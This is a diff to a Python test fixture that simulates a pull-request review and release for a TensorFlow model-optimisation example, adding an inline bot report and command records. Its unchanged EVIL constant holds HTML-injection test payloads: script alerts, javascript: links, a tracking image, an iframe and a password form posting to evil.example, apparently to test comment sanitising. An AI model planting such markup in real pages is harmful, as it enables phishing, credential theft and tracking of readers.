@@ -10,7 +10,7 @@ import process
 from convergence import records
 from release_tools.model import Permission
 from release_tools.rehearsal import portrait
-from release_tools.rehearsal.show import Act, Campaign, Followed, Line, Release, Show
+from release_tools.rehearsal.show import Act, Campaign, Command, Followed, Line, Release, Show
 from release_tools.release.audit import Entry
 from release_tools.release.nouns import GateResult
 from release_tools.sandbox import (
@@ -28,7 +28,6 @@ from release_tools.sandbox.nouns import Issue
 from release_tools.sandbox.people import Account
 from release_tools.sandbox.world import World
 
-GOLDENS = Path(__file__).parents[1] / "golden"
 TIER = "In this rehearsal's policy the smoke tier stands for the full one: minutes on two cores."
 BODY = """Adds pruning to the digits example.
 
@@ -43,6 +42,30 @@ EVIL = """<script>alert(1)</script><img src=x onerror=alert(1)> <b onclick="aler
 [click](javascript:alert(1)) <a href="javascript:alert(1)">there</a> ![beacon](https://evil.example/x.png)
 <style>body{display:none}</style><iframe src="https://evil.example"></iframe></div></article>@everybody
 <form action="https://evil.example"><input name=password><button>Go</button></form>
+"""
+REPORT = """### ✅ Reproduced: the claim — next: MOT reviews
+
+| claim (★ headline) | documented | reproduced | |
+|:--|--:|--:|:--|
+| pruning accuracy ★ | 96.20 % | **95.90 %** | ✅ reproduced |
+
+```mermaid
+xychart-beta
+    x-axis "training step" 100 --> 300
+    y-axis "accuracy, %" 90 --> 97
+    line [90.8, 94.8, 96.3]
+    line [96.2, 96.2, 96.2]
+```
+
+<details>
+<summary>Details: commits</summary>
+
+- [run](https://github.com/tensorflow/models/actions/runs/7)
+- [asked for](https://github.com/tensorflow/models/pull/1)
+
+</details>
+
+<sub>Head `1f0c`.</sub>
 """
 NOTES = "# TensorFlow Model Optimization 0.8.2\n\n## Added\n\n* Pruning of digits, with thanks to carl.\n"
 
@@ -86,7 +109,7 @@ class Rehearsed:
     def label(self, *names: str) -> None:
         labels.set_labels(self.world, self.models, self.issue, names, self.bot)
 
-    def play(self) -> None:
+    def play(self, report: str = REPORT) -> None:
         """From two faults to the merge."""
         self.label("mot: home")
         self.check("MOT example standards", "failure", "2 faults", "- [ ] `example.py:1` is not lazy\n")
@@ -96,7 +119,7 @@ class Rehearsed:
         asked = self.say(self.mona, "/converge pruning")
         said = next(one for one in self.issue.comments if one.id == asked)
         comments.react(self.world, said.reactions, self.bot, "eyes")
-        self.say(self.bot, (GOLDENS / "comment-reproduced-smoke.md").read_text(encoding="utf-8"))
+        self.say(self.bot, report)
         self.label("mot: approved", "technique:pruning")
         self.say(self.stan, EVIL)
         reviews.give(self.world, self.models, self.issue, self.mona, "APPROVE", "Reproduced **here** too.")
@@ -154,7 +177,12 @@ def acts(*, held: bool) -> tuple[Act, ...]:
             Followed("the verdict is REPRODUCED", "REPRODUCED" if held else "NOT REPRODUCED", held),
         ), seconds=151.2,
     )  # fmt: skip
-    built = Line("carl", "the contributor", does="release-tools build . --out dist", seconds=21.0)
+    ran = Command("carl", "release-tools build . --out dist", "\x1b[32m112 modules\x1b[0m import <b>\n")
+    failed = Command("standards / check", "release-tools check-example", status=1)
+    built = Line(
+        "carl", "the contributor", does="git push carl/models pruning", seconds=21.0,
+        tells="builds TFMOT from its master", ran=(ran, failed),
+    )  # fmt: skip
     return (Act("The example", (built,)), Act("Trials", (said, asked)))
 
 
@@ -181,10 +209,10 @@ def audit() -> tuple[Entry, ...]:
     return tuple(Entry(at.format(i), "mona", *line) for i, line in enumerate(lines))
 
 
-def played(folder: Path) -> Rehearsed:
+def played(folder: Path, report: str = REPORT) -> Rehearsed:
     """All of it."""
     made = Rehearsed(folder)
-    made.play()
+    made.play(report)
     made.release()
     made.bump()
     return made
